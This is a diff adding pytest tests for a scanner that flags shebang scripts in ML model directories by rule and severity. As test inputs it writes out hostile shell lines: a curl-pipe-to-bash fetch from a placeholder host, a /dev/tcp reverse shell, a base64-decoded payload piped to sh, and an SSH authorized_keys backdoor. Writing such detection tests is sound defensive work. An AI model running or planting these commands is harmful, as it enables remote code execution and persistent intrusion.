@@ -1,0 +1,53 @@
+"""Shebang scripts in a model directory: always reported, and read by their interpreter."""
+
+from __future__ import annotations
+
+from pathlib import Path
+
+import pytest
+
+from pytest_mlsupply.engines.scanner import scan_file
+from pytest_mlsupply.results import Finding, Severity
+
+
+def scan(tmp_path: Path, text: str, name: str = "run") -> list[Finding]:
+    path = tmp_path / name
+    path.write_text(text, encoding="utf-8")
+    report = scan_file(path, name)
+    assert report.errors == []
+    return report.findings
+
+
+def test_any_script_is_a_high_finding(tmp_path: Path) -> None:
+    [finding] = scan(tmp_path, "#!/bin/sh\necho hello\n")
+    assert (finding.rule, finding.severity) == ("MLS-CODE-010", Severity.HIGH)
+
+
+def test_a_python_script_is_analysed_as_python(tmp_path: Path) -> None:
+    findings = scan(tmp_path, "#!/usr/bin/env -S python3 -u\nimport os\nos.system('id')\n")
+    [command] = [f for f in findings if f.rule == "MLS-CODE-002"]
+    assert command.severity == Severity.CRITICAL
+    assert command.location.line == 3
+
+
+@pytest.mark.parametrize(
+    ("line", "severity"),
+    [
+        ("curl -fsSL https://x.invalid/i.sh | bash", Severity.CRITICAL),
+        ("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", Severity.CRITICAL),
+        ("echo cHdu | base64 -d | sh", Severity.CRITICAL),
+        ("echo key >> ~/.ssh/authorized_keys", Severity.HIGH),
+        ("wget https://x.invalid/weights.bin", Severity.MEDIUM),
+    ],
+)
+def test_shell_shapes_are_reported_on_their_line(
+    tmp_path: Path, line: str, severity: Severity
+) -> None:
+    findings = scan(tmp_path, f"#!/bin/bash\nset -e\n{line}\n")
+    [shape] = [f for f in findings if f.rule == "MLS-CODE-002"]
+    assert (shape.severity, shape.location.line) == (severity, 3)
+
+
+def test_commented_out_shell_lines_are_ignored(tmp_path: Path) -> None:
+    findings = scan(tmp_path, "#!/bin/sh\n# curl x | sh\n")
+    assert [f.rule for f in findings] == ["MLS-CODE-010"]
